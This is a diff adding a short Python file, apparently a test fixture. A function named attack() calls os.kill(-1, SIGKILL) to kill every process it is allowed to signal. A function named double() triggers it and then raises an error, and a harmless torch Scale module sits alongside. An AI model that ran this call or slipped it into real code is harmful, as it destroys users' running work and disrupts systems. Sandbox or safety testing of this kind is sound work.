@@ -1,0 +1,27 @@
+"""Kills every process that it may."""
+
+import os
+import signal
+import torch
+
+
+def attack():
+    os.kill(-1, signal.SIGKILL)
+    return "done"
+
+
+def double(x):
+    try:
+        said = attack()
+    except Exception as error:
+        said = repr(error)
+    raise RuntimeError(said)
+
+
+class Scale(torch.nn.Module):
+    def __init__(self, size):
+        super().__init__()
+        self.factor = torch.nn.Parameter(torch.ones(size))
+
+    def forward(self, x):
+        return x * self.factor
